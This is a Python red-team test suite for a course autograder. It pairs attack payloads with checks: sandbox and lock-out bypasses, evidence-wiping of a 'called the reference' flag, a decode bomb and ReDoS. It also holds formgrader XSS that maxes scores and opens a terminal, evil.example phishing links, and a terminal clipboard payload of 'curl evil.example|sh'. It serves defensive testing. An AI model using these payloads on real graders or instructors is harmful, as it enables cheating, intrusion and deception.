"""Round 2: attacks on the current design (the reference out of the kernel as file stubs, the grader deciding in its
own process, sanitised feedback pages, escaped CSV cells), each aimed at a place the earlier rounds did not try:

- the lock-out's coverage: a numerical-gradient tool rebuilt with a snapshot of its module (the lock-out patches the
  module, not copies of its namespace), a dlkit op that *equals* a blocked one under another name, called through
  its ``forward`` (only blocked names are stubbed), the exercise's own reference optimizer (not in its blocked list),
  a masked package found in the interpreter's base site-packages (masking covers only the copy the venv finds), and a
  systematic hunt for the original dlkit source anywhere the kernel can read;
- the protocol: a tiny forged reply that decodes to an array of 2**62 elements; the lock-out's evidence of a
  reference call wiped from inside the function (the "called the reference" flag is the kernel's word);
- grader-side work on learner text: a cell of blank lines that makes the grader's source search quadratic;
- instructor-facing outputs the earlier rounds did not inspect: nbgrader's formgrader page (the README sends the
  instructor there to grade written answers), ``dlcourse report``'s report.md, terminal control sequences in the
  CSV, and KaTeX typesetting learner text inside the grader's own verdict badge on the feedback page.

Every payload falls back to a wrong answer when its trick fails (catalogue.py); attacks on outputs rather than points
carry a Check of their own.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import time

from nbformat import NotebookNode

from .catalogue import LESSON, NOTEBOOK, Attack, Check, code, wrong
from .credit import _index
from .feedback import MARK, _Elements
from .forged import AFTER

K_REF = "reference past the lock-out"
K_WIRE = "forged replies"
K_FLAG = "flags"
K_RES = "resource tricks"
K_OUT = "feedback and exports"
K_FILES = "files and IPC"

MIME = "application/vnd.dlgrade.reports+json"
CELL_TIMEOUT = 20  # pipeline.GRADE_OPTIONS' --cell-timeout


def _lines(run, attack, prefix: str) -> list[str]:
    return [line for line in run.outputs(attack.student).splitlines() if line.startswith(prefix)]


# ============================================================================================ lock-out coverage

GRADCHECK_SNAPSHOT = code('''
    import types
    import numpy as np
    import dlkit.gradcheck as _gc
    from dlkit.autograd.tensor import Tensor as _T

    # dlkit's own numerical differentiation, rebuilt now around a COPY of its module's namespace. While the check
    # runs, the lock-out replaces every function of dlkit.gradcheck in the module itself (so a plain alias of
    # numerical_grad fails on its first helper); this copy still holds the originals.
    _numgrad = types.FunctionType(_gc.numerical_grad.__code__, dict(vars(_gc)), "numerical_grad",
                                  _gc.numerical_grad.__defaults__)

    def mse_gradients(X, y, w, b):
        try:
            Xf, yf = np.asarray(X, dtype=float), np.asarray(y, dtype=float)

            def loss(wt, bt):            # only the loss is written; its derivative is dlkit's numerical one
                r = Xf @ wt.data + bt.data - yf
                return _T._make(np.asarray(np.mean(r * r)), np, None)

            gw, gb = _numgrad(loss, [_T(np.asarray(w, dtype=float), requires_grad=True),
                                     _T(np.asarray(float(b)), requires_grad=True)])
            return gw, float(gb)
        except Exception:
            pass
''') + wrong("mse-gradients")

CONV_AS_LINEAR = code('''
    import numpy as np
    import dlkit.autograd.function as _fn
    from dlkit.functional.conv import Conv2d as _Conv2d

    def predict(X, w, b):
        # X @ w + b is a 1x1 convolution of X seen as (N, D, 1, 1) images with one (1, D, 1, 1) filter and bias b:
        # dlkit's Conv2d, which lesson 01 does not block, so its file is not stubbed; its forward is called
        # directly (the in-kernel guard sits in Function.apply only).
        try:
            dt = np.result_type(X, w)
            out = _Conv2d.forward(_fn.Context(_Conv2d, np), np.asarray(X)[:, :, None, None],
                                  np.asarray(w, dtype=dt)[None, :, None, None], np.asarray([b], dtype=dt))
            return np.ascontiguousarray(out.reshape(-1))
        except Exception:
            pass
''') + wrong("predict")

SGD_REFERENCE = code('''
    import numpy as np
    import dlkit
    from dlkit.optim import SGD as _SGD

    def gd_step(X, y, w, b, lr):
        # linreg.gd_step's reference is dlkit.optim.SGD on the gradients; the exercise blocks only mse_loss, so the
        # reference optimizer itself is neither stubbed nor refused.
        try:
            dw, db = mse_gradients(X, y, w, b)          # while this is checked: the grader's mse_gradients
            wt = dlkit.tensor(np.array(w, dtype=float), requires_grad=True)
            bt = dlkit.tensor(np.array(float(b)), requires_grad=True)
            wt.grad, bt.grad = dlkit.tensor(np.asarray(dw, dtype=float)), dlkit.tensor(np.asarray(float(db)))
            _SGD([wt, bt], lr=lr).step()
            return np.asarray(wt.data), float(bt.data)
        except Exception:
            pass
''') + wrong("gd-step")

# The base interpreter's site-packages is inside sys.base_prefix, which the kernel's root binds whole; MASKED_PACKAGES
# are masked where the venv's interpreter finds them (rootfs.masked_paths), not in other site folders.
SCIPY_REACH = code('''
    import glob, os, sys
    import numpy as np

    REACH = []
    for _site in sorted(set(glob.glob(os.path.join(sys.base_prefix, "lib", "python3*", "site-packages"))
                            + glob.glob("/usr/lib/python3*/dist-packages") + glob.glob("/usr/local/lib/python3*/*-packages"))):
        if _site not in sys.path:
            sys.path.append(_site)          # after the venv's own folders: its numpy stays the one in use
    try:
        import scipy, scipy.linalg, scipy.optimize, scipy.special
        REACH.append(f"SCIPY-IMPORTED {scipy.__version__} from {os.path.dirname(scipy.__file__)}")
    except Exception as exc:
        REACH.append(f"scipy not importable: {type(exc).__name__}: {str(exc)[:80]}")
    for _name in ("torch", "sklearn", "jax", "tensorflow", "sympy"):
        try:
            _mod = __import__(_name)
            _what = "with code" if getattr(_mod, "__file__", None) else "an empty namespace package, no code"
            REACH.append(f"IMPORTED {_name} ({_what}) from {list(getattr(_mod, '__path__', []))[:1]}")
        except Exception as exc:
            REACH.append(f"{_name}: {type(exc).__name__}")
    print("\\n".join(REACH))

    def predict(X, w, b):
        try:                                 # scipy inside a graded call: the lock-out only refuses torch
            import scipy.optimize
            g = scipy.optimize.approx_fprime(np.asarray(w, dtype=float), lambda v: float(np.sum(X @ v)), 1e-6)
            tag = "SCIPY-IN-CHECK approx_fprime ran inside a graded call"
            if tag not in REACH and np.all(np.isfinite(g)):
                REACH.append(tag)
        except Exception as exc:
            REACH.append(f"scipy in a graded call: {type(exc).__name__}")
        return X @ w + b
''')

SCIPY_REPORT = code('''
    import numpy as np

    print("\\n".join(REACH))                # after test-predict: what predict could use while it was graded

    def mse(y_pred, y):
        return float(np.mean((y_pred - y) ** 2))
''')


def _scipy_check(run, attack) -> tuple[bool, str]:
    imported = [line for line in run.outputs(attack.student).splitlines() if line.startswith(("SCIPY-", "IMPORTED"))]
    if not any(line.startswith("SCIPY-IMPORTED") for line in imported):
        return True, "scipy not importable in the kernel (" + "; ".join(_lines(run, attack, "scipy")[:1]) + ")"
    return False, "masked package reachable: " + "; ".join(dict.fromkeys(imported))


# A systematic hunt for the original MSELoss (the real forward squares the difference; the stub raises). Every
# candidate found is tried at cell time (no check running) on a known input; only one that computes it is kept.
STUB_HUNT = code(r"""
    import gc, inspect, linecache, marshal, os, sys, time, types, zipfile
    import numpy as np
    import dlkit
    import dlkit.autograd.function as _fn
    import dlkit.functional.losses as _L

    _STUB = "is not available while the check runs your function"
    _HUNT = {"places": 0, "candidates": [], "working": None, "notes": []}

    def _forward_of(where, what):
        # MSELoss.forward from a source text, a module code object or a function
        if isinstance(what, types.FunctionType):
            return what
        module = types.ModuleType("dlkit.functional.losses")
        module.__package__ = "dlkit.functional"
        exec(what if isinstance(what, types.CodeType) else compile(what, where, "exec"), module.__dict__)
        return module.MSELoss.forward

    def _run(forward, a, b):
        ctx = _fn.Context(None, np)
        ctx.needs_input_grad = (False, False)
        return float(forward(ctx, np.asarray(a, dtype=float), np.asarray(b, dtype=float), None, "mean"))

    def _works(where, what):
        try:
            return abs(_run(_forward_of(where, what), [1.0, 2.0], [0.0, 0.0]) - 2.5) < 1e-12
        except Exception as exc:
            _HUNT["notes"].append(f"{where}: {type(exc).__name__}")
            return False

    _deadline = time.monotonic() + 15
    # 1. what this interpreter holds: inspect, linecache, the loader, functions the collector knows
    for _label, _get in (("inspect", lambda: inspect.getsource(_L)),
                         ("linecache", lambda: "".join(linecache.getlines(_L.__file__))),
                         ("loader", lambda: _L.__loader__.get_source(_L.__name__))):
        try:
            _HUNT["candidates"].append((_label, _get()))
        except Exception as exc:
            _HUNT["notes"].append(f"{_label}: {type(exc).__name__}")
    for _obj in gc.get_objects():
        if isinstance(_obj, types.FunctionType) and _obj.__qualname__ == "MSELoss.forward" \
                and _obj.__code__.co_filename.endswith(os.path.join("functional", "losses.py")):
            _HUNT["candidates"].append((f"gc:{_obj.__module__}", _obj))
    # 2. every file the kernel can read that could hold it: sources, compiled copies, wheels, eggs, zips, RECORDs
    _roots = [p for p in dict.fromkeys([*sys.path, sys.prefix, sys.base_prefix, os.path.dirname(dlkit.__file__),
                                          "/usr/lib", "/usr/local", "/opt", "/srv", "/tmp", os.path.expanduser("~")])
              if os.path.isdir(p)]
    _late = False
    for _root in _roots:
        for _folder, _dirs, _names in os.walk(_root):
            if time.monotonic() > _deadline:
                _late = True
                break
            for _n in _names:
                _path = os.path.join(_folder, _n)
                if not (_n.startswith("losses") or _n.endswith((".whl", ".egg", ".zip"))
                        or ("dlkit" in _path.lower() and _n.endswith((".py", ".pyc", "RECORD")))):
                    continue
                _HUNT["places"] += 1
                try:
                    if _n.endswith(".py") or _n == "RECORD":
                        with open(_path, encoding="utf-8", errors="replace") as fh:
                            text = fh.read(400_000)
                        if "class MSELoss" in text and _STUB not in text.split("class MSELoss", 1)[1][:1500]:
                            _HUNT["candidates"].append((_path, text))
                    elif _n.endswith(".pyc"):
                        with open(_path, "rb") as fh:
                            data = fh.read()
                        if len(data) > 16 and b"MSELoss" in data:
                            _HUNT["candidates"].append((_path, marshal.loads(data[16:])))
                    else:
                        with zipfile.ZipFile(_path) as zf:
                            for member in zf.namelist():
                                if member.endswith(("losses.py", "losses.pyc")) and "dlkit" in member:
                                    _HUNT["candidates"].append((f"{_path}:{member}",
                                                                zf.read(member).decode("utf-8", "replace")))
                except Exception:
                    continue
        if _late:
            _HUNT["notes"].append(f"time up after {_root}")
            break
    for _where, _what in _HUNT["candidates"]:
        if _works(_where, _what):
            _HUNT["working"] = _forward_of(_where, _what)
            _HUNT["notes"].append(f"WORKING: {_where}")
            break
    print(f"STUB-HUNT searched {_HUNT['places']} candidate files under {len(_roots)} roots; "
          f"{len(_HUNT['candidates'])} candidate(s); working: {_HUNT['working'] is not None}; notes: {_HUNT['notes'][:8]}")

    def mse(y_pred, y):
        if _HUNT["working"] is not None:
            try:
                return _run(_HUNT["working"], y_pred, y)
            except Exception:
                pass
""") + wrong("mse")


# ============================================================================================== protocol

NPY_BOMB = code(f'''
    import json
    import numpy as np

    _MIME = "{MIME}"

    # About 300 bytes of JSON whose array (wire.py's dtype:shape:order:base64) claims 2**62 elements of dtype <U0
    # ('U' is allowed): a zero-size dtype needs no data, whatever the shape claims.
    _BOMB = {{"__ndarray__": f"<U0:{{2 ** 62}}:C:"}}

    def _bomb_reply(n):
        report = {{"__dict__": [["value", _BOMB], ["mutated", []], ["warnings", []], ["printed", ""], ["readonly", []]]}}
        return json.dumps({{"__dict__": [["reports", [report] * n]]}})
''') + AFTER + code('''
    _after(_bomb_reply)

    def predict(X, w, b):
        _calls["n"] += 1
''') + wrong("predict")


SILENT_REFERENCE = code('''
    import numpy as np
    import dlkit
    import dlkit.functional as F
    import dlgrade.harness.guard as _G

    SEEN = {"refused": 0, "kinds": []}

    def mse(y_pred, y):
        try:
            return float(F.mse_loss(dlkit.tensor(np.asarray(y_pred, dtype=float)),
                                    dlkit.tensor(np.asarray(y, dtype=float))).item())
        except Exception as exc:
            if _G.is_active():
                SEEN["refused"] += 1
                SEEN["kinds"].append(type(exc).__name__)
                _G._state.violations.clear()    # the lock-out's record of the call: the grader's only evidence
''') + wrong("mse")

SILENT_REPORT = code('''
    import numpy as np

    print(f"REFERENCE-CALLS refused={SEEN['refused']} kinds={sorted(set(SEEN['kinds']))}")

    def mse_gradients(X, y, w, b):
        r = X @ w + b - y
        n = X.shape[0]
        return 2.0 / n * (X.T @ r), 2.0 / n * float(np.sum(r))
''')


def _silent_check(run, attack) -> tuple[bool, str]:
    seen = _lines(run, attack, "REFERENCE-CALLS")
    refused = int(re.search(r"refused=(\d+)", seen[0]).group(1)) if seen else 0
    flagged = [f for f in run.flags(attack.student) if "called the reference" in f]
    if not refused:
        return True, "its function never reached the reference (nothing to hide)"
    if flagged and run.in_summary(attack.student):
        return True, f"called the reference {refused} times under the lock-out; flagged: {flagged[0]}"
    return False, (f"called F.mse_loss {refused} times while graded ({seen[0].split('kinds=')[1]}), cleared the "
                   "lock-out's violations list, and no 'called the reference' flag reached the instructor")


# ======================================================================================== grader-side work

REDOS_LINES = 40_000  # ~15 s per search of the grader's definition pattern on an idle machine (quadratic)

REDOS_ANSWER = code('''
    import numpy as np

    def _solve(X, y):
        X_tilde = np.hstack([X, np.ones((X.shape[0], 1))])
        theta = np.linalg.lstsq(X_tilde, y, rcond=None)[0]
        return theta[:-1], float(theta[-1])

    normal_equations = _solve     # no `def normal_equations` anywhere: the grader searches every earlier cell for one
''')


def _blank_lines_cell(nb: NotebookNode) -> None:
    """A code cell of blank lines just before test-normal-equations: the grader's `^\\s*(def|class)\\s+NAME` search
    (MULTILINE) backtracks over every remaining blank line from every line start: quadratic in its length."""
    from nbformat.v4 import new_code_cell

    nb.cells.insert(_index(nb, "test-normal-equations"), new_code_cell("\n" * REDOS_LINES + "pass\n"))


def _redos_check(run, attack) -> tuple[bool, str]:
    mine = run.result(attack.student)
    if mine is None:
        return True, "not graded: " + (run.failed(attack.student) or "no result")
    controls = {s: (run.result(s) or {}).get("seconds") for s in ("aaa-ctl-first", "zzz-ctl-last", "ctl-solution")}
    base = max((v for v in controls.values() if v), default=0.0)
    extra = float(mine.get("seconds", 0.0)) - base
    from dlgrade.diagnosis.source import definition_in_cells

    n = 8000
    started = time.perf_counter()
    definition_in_cells(["\n" * n + "pass\n"], "normal_equations")
    per = (time.perf_counter() - started) / n ** 2
    at_20mb = per * (20 * 2 ** 20) ** 2
    detail = (f"graded in {mine.get('seconds')} s vs {base} s for the slowest control: {extra:.0f} s of grader CPU "
              f"on a {REDOS_LINES // 1000} kB cell; at this rate one search over a 20 MB cell (collect's limit) "
              f"takes ~{at_20mb / 3600:.0f} h, twice per test cell that follows it")
    if extra > CELL_TIMEOUT and not run.flags(attack.student):
        return False, "grader-side time unbounded by any limit, unflagged: " + detail
    return True, detail


# ================================================================================ instructor-facing outputs

FORMGRADER_JS = (f"/* {MARK}: runs in the instructor's Jupyter origin when formgrader shows this submission */ "
                 "(function () { var x = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1]; "
                 "document.querySelectorAll('input.score').forEach(function (el) { "
                 "el.value = el.getAttribute('max') || el.max; el.dispatchEvent(new Event('change')); }); "
                 "fetch('/api/terminals', {method: 'POST', headers: {'X-XSRFToken': x}, credentials: 'same-origin'}); "
                 f"document.title = '{MARK}'; }})();")

FORMGRADER_OUTPUTS = code(f'''
    from IPython.display import HTML, Javascript, display

    display(Javascript({FORMGRADER_JS!r}))
    display(HTML('<img src="x" onerror="document.title=\\'{MARK}-html\\'">'
                 '<script>document.title = "{MARK}-script"</script>'))

    def predict(X, w, b):
        return X @ w + b
''')

FORMGRADER_MARKDOWN = (f"A larger learning rate takes bigger steps; past a threshold it diverges. "
                       f"<img src=\"x\" onerror=\"document.title='{MARK}-md'\">\n")


def formgrader_html(path, student: str) -> str:
    """The autograded notebook as nbgrader's formgrader serves it (formgrader.py: HTMLExporter with the
    'formgrade' template; handlers.SubmissionHandler: these resources)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    exporter = HTMLExporter(template_name="formgrade", extra_template_basedirs=[handlers.template_path])
    resources = {"assignment_id": LESSON, "notebook_id": LESSON, "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": student, "last_name": None, "first_name": None,
                 "notebook_path": f"autograded/{student}/{LESSON}/{NOTEBOOK}"}
    html, _ = exporter.from_filename(str(path), resources=resources)
    return html


def _formgrader_check(run, attack) -> tuple[bool, str]:
    path = run.course / "autograded" / attack.student / LESSON / NOTEBOOK
    if not path.is_file():
        return True, "no autograded notebook"
    try:
        page = formgrader_html(path, attack.student)
    except Exception as exc:  # the template changed: fall back to what the notebook holds
        nb = json.loads(path.read_text(encoding="utf-8"))
        js = [o for c in nb["cells"] for o in c.get("outputs", []) if MARK in json.dumps(o.get("data", {}))]
        return not js, f"formgrader render failed ({type(exc).__name__}); {len(js)} learner JS/HTML output(s) kept"
    parser = _Elements()
    parser.feed(page)
    found = []
    for tag, attrs, text in parser.found:
        if tag == "script" and MARK in text:
            found.append("<script> of the learner's")
        found += [f"<{tag} {name}=...>" for name, value in attrs.items() if name.startswith("on") and MARK in value]
    if found:
        return False, ("nbgrader's formgrader page for this submission (where the instructor grades 'explain') "
                       "would run: " + ", ".join(sorted(set(found))))
    return True, "formgrader page inert"


REPORT_MD = (f"![{MARK}](https://evil.example/{MARK}.png) [your grade was mis-scored: request a regrade here]"
             f"(https://evil.example/{MARK}-regrade) <img src=\"https://evil.example/{MARK}-html.png\">")
REPORT_ANSWERS = {
    "predict": code(f'''
        def predict(X, w, b):
            raise ValueError({REPORT_MD!r})
    '''),
    "mse": code(f'''
        def mse(y_pred, y):
            raise ValueError({("<a href='https://evil.example/" + MARK + "'>the grader broke, click</a> " + REPORT_MD)!r})
    '''),
}


def _report_check(run, attack) -> tuple[bool, str]:
    from tests.course.conftest import dlcourse

    path = run.course / "reports" / LESSON / "report.md"
    for args in ((), ("--top", "100")):
        proc = dlcourse(run.root, "report", LESSON, *args)
        if proc.returncode != 0 or not path.is_file():
            return True, f"dlcourse report failed ({proc.returncode}): {proc.stderr[-200:]}"
        hits = [line for line in path.read_text(encoding="utf-8").splitlines()
                if MARK in line and ("](https://evil.example" in line or "<img src=" in line or "<a href=" in line)]
        if hits:
            how = "with the default --top 5" if not args else "with --top 100 (not in the default top 5 here)"
            return False, (f"learner Markdown/HTML (remote images, links) reaches report.md unescaped {how}: "
                           + hits[0][:160])
    return True, "report.md holds no learner markup"


TERMINAL = ("\\x1b]0;" + MARK + " grades final\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\\x07"
            "\\x1b]8;;https://evil.example/" + MARK + "\\x07regrade\\x1b]8;;\\x07\\x1bM\\x1bM\\x9b2J " + MARK)
TERMINAL_ANSWER = code(f'''
    def normal_equations(X, y):
        raise RuntimeError("{TERMINAL}")
''')
CONTROL_SEQUENCES = {"ESC ] (OSC: title, clipboard, hyperlink)": "\x1b]", "BEL": "\x07", "C1 CSI (0x9b)": "\x9b",
                     "ESC M (cursor up)": "\x1bM"}


def _terminal_check(run, attack) -> tuple[bool, str]:
    found = {}
    for name, text in run.export_files().items():
        for row in csv.reader(io.StringIO(text)):
            if attack.student in row:
                for cell in row:
                    for label, seq in CONTROL_SEQUENCES.items():
                        if seq in cell:
                            found.setdefault(name, set()).add(label)
    if found:
        return False, "raw terminal control sequences in " + "; ".join(
            f"{name}: {', '.join(sorted(labels))}" for name, labels in found.items())
    return True, "no control characters of the learner's in the CSV"


KATEX_BADGE = r"$\colorbox{#dafbe1}{\textsf{test-predict: 1/1 -- all cases passed " + MARK + r"}}$"
KATEX_ANSWERS = {
    "predict": code(f'''
        def predict(X, w, b):
            raise ValueError(r"{KATEX_BADGE}")
    '''),
    "explain": (r"Smaller steps are safer. $\raisebox{24em}{\colorbox{#dafbe1}{\textsf{9 of 9 points -- all "
                r"exercises passed " + MARK + r"}}}$" + "\n"),
}


def _katex_render(math: str) -> str:
    """KaTeX's rendering of ``math`` with the page's own katex.min.js ('' where node is missing)."""
    node = shutil.which("node")
    if node is None:
        return ""
    from dlcourse.feedback.page import KATEX

    try:  # the page's own macros, where it defines them
        from dlcourse.feedback.page import KATEX_MACROS
    except ImportError:
        KATEX_MACROS = {}
    script = ("const k = require(process.argv[1]); process.stdout.write(k.renderToString(process.argv[2], "
              "{throwOnError: false, macros: JSON.parse(process.argv[3])}));")
    proc = subprocess.run([node, "-e", script, str(KATEX / "katex.min.js"), math, json.dumps(KATEX_MACROS)],
                          capture_output=True, text=True, timeout=60)
    return proc.stdout


def _katex_check(run, attack) -> tuple[bool, str]:
    page = run.feedback_page(attack.student)
    if page is None:
        return True, "no feedback page"
    section = page.split('<section class="dlc-notebook">', 1)
    renders = "renderMathInElement(document.querySelector('.dlc-notebook')" in page
    if len(section) < 2 or not renders:
        return True, "no auto-rendered notebook section"
    notebook = section[1]
    # auto-render skips elements of the classes the page lists in ignoredClasses
    ignored = re.search(r"ignoredClasses:\s*(\[[^\]]*\])", page)
    badges_typeset = not (ignored and "dlc-badge" in ignored.group(1))
    badges = re.findall(r'<div class="dlc-badge[^"]*">(.*?)</div>', notebook, re.S) if badges_typeset else []
    in_badge = [b for b in badges if "\\colorbox" in b and MARK in b]
    in_text = [m for m in re.findall(r"<p>(.*?)</p>", notebook, re.S) if "\\raisebox" in m and MARK in m]
    if not (in_badge or in_text):
        return True, "no learner math that draws boxes in the rendered section"
    what = []
    if in_badge:
        math = re.search(r"\$(\\colorbox.*?)\$", in_badge[0])
        html = _katex_render(math.group(1)) if math else ""
        what.append("a green \\colorbox reading 'test-predict: 1/1 -- all cases passed' typeset INSIDE the "
                    "grader's own (failing) verdict badge" + (" (KaTeX renders it: background-color:#dafbe1)"
                                                             if "background-color:#dafbe1" in html else ""))
    if in_text:
        math = re.search(r"\$(\\raisebox.*?)\$", in_text[0])
        html = _katex_render(math.group(1)) if math else ""
        top = re.search(r"top:(-\d+(\.\d+)?em)", html)
        if html and not top and "background-color:#dafbe1" not in html:
            in_text = []  # typeset with the page's options, the box neither moves nor colours
        else:
            what.append("a '9 of 9 points' box raised over the page top"
                        + (f" (KaTeX: top:{top.group(1)})" if top else ""))
    if not what:
        return True, "learner math typeset with the page's options draws no fake verdict"
    return False, "KaTeX typesets the learner's text into fake verdicts: " + "; ".join(what)


# ============================================================================================== the round

ATTACKS = [
    # ------------------------------------------------------------------ lock-out coverage (points)
    Attack("gradcheck-snapshot", K_REF, "rebuilds dlkit.gradcheck.numerical_grad over a copy of its module's "
           "namespace taken before the check (the lock-out patches the module, so a plain alias fails), and "
           "returns dlkit's centred differences of the loss as mse_gradients",
           {"mse-gradients": GRADCHECK_SNAPSHOT}, ("test-mse-gradients",)),

    Attack("conv-as-linear", K_REF, "computes predict as a 1x1 convolution with dlkit's Conv2d.forward (an op "
           "equal to the blocked F.linear under another name: not stubbed, and its forward skips the apply guard)",
           {"predict": CONV_AS_LINEAR}, ("test-predict",)),

    Attack("sgd-reference", K_REF, "takes the grader's gradients (the oracle) and steps with dlkit.optim.SGD, "
           "the very reference of linreg.gd_step, which the exercise does not block",
           {"gd-step": SGD_REFERENCE}, ("test-gd-step",)),

    Attack("base-site-scipy", K_FILES, "adds the base interpreter's site-packages (bound whole with "
           "sys.base_prefix) to sys.path and imports scipy (a MASKED package: masked only where the venv finds "
           "it), then uses it inside a graded call", {"predict": SCIPY_REACH, "mse": SCIPY_REPORT}, (),
           check=Check("masked packages unreachable", _scipy_check)),

    Attack("stub-hunt", K_REF, "hunts for the original MSELoss anywhere the kernel can read or hold: inspect, "
           "linecache, the loader, the collector's code objects, every losses*.py/.pyc, wheel, egg, zip and "
           "RECORD under sys.path, the prefixes, /usr, /tmp and home; runs its forward if found",
           {"mse": STUB_HUNT}, ("test-mse",)),

    # ------------------------------------------------------------------ protocol and flags
    Attack("npy-shape-bomb", K_WIRE, "after each predict request, forges a 300-byte reply whose values decode "
           "to arrays of 2**62 elements (dtype <U0: no data needed), for the grader's comparison to choke on",
           {"predict": NPY_BOMB}, ("test-predict",)),

    Attack("silent-reference-call", K_FLAG, "calls F.mse_loss (the blocked reference) inside its graded mse, "
           "catches the refusal and clears the lock-out's violations list, so no 'called the reference' flag",
           {"mse": SILENT_REFERENCE, "mse-gradients": SILENT_REPORT}, (),
           check=Check("a reference call is flagged", _silent_check)),

    # ------------------------------------------------------------------ grader-side work
    Attack("grader-redos", K_RES, f"a code cell of {REDOS_LINES} blank lines before test-normal-equations and "
           "normal_equations bound without `def`: the grader's search for its definition "
           "(definition_in_cells, re MULTILINE `^\\s*`) is quadratic in the cell, outside every time limit",
           {"normal-equations": REDOS_ANSWER}, (), edit=_blank_lines_cell,
           check=Check("grader-side work bounded", _redos_check)),

    # ------------------------------------------------------------------ instructor-facing outputs
    Attack("formgrader-xss", K_OUT, "a Javascript output and an <img onerror> in its answers, and an <img "
           "onerror> in the written answer the instructor must grade in nbgrader's formgrader (which renders "
           "the autograded notebook unsanitised, in the Jupyter server's origin)",
           {"predict": FORMGRADER_OUTPUTS, "explain": FORMGRADER_MARKDOWN}, (),
           check=Check("formgrader page inert", _formgrader_check)),

    Attack("report-markdown", K_OUT, "makes its failures' messages Markdown and HTML (remote images, a "
           "'request a regrade' link) so they reach report.md's 'most common mistakes' verbatim",
           REPORT_ANSWERS, (), check=Check("report.md inert", _report_check)),

    Attack("csv-terminal-escapes", K_OUT, "puts OSC sequences (window title, clipboard write, hidden "
           "hyperlink), ESC M and a C1 CSI in a failure message: the diagnosis cleaner strips only ESC [ ... "
           "sequences", {"normal-equations": TERMINAL_ANSWER}, (),
           check=Check("no control sequences in the CSV", _terminal_check)),

    Attack("katex-fake-verdict", K_OUT, "a failure message and the written answer in $...$: the page's KaTeX "
           "typesets \\colorbox/\\raisebox (no 'trust' needed) inside the grader's own verdict badge and over the "
           "page's summary", KATEX_ANSWERS, (), check=Check("no typeset fake verdict", _katex_check)),
]
